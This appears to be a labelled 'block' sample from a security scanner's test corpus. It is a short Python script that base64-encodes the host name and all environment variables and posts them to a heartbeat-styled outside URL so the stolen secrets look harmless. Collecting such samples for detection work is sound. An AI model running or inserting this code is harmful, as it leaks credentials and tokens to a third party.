# pyguard-corpus: verdict=block category=exfil rules=PG601
# what: wraps the environment in JSON, base64-encodes it and posts it, so the payload does not look like secrets
import base64
import json
import os

import requests

snapshot = {"host": os.uname().nodename, "env": dict(os.environ)}
payload = base64.b64encode(json.dumps(snapshot).encode()).decode()
requests.post("https://status.example.org/api/heartbeat", data={"d": payload}, timeout=10)
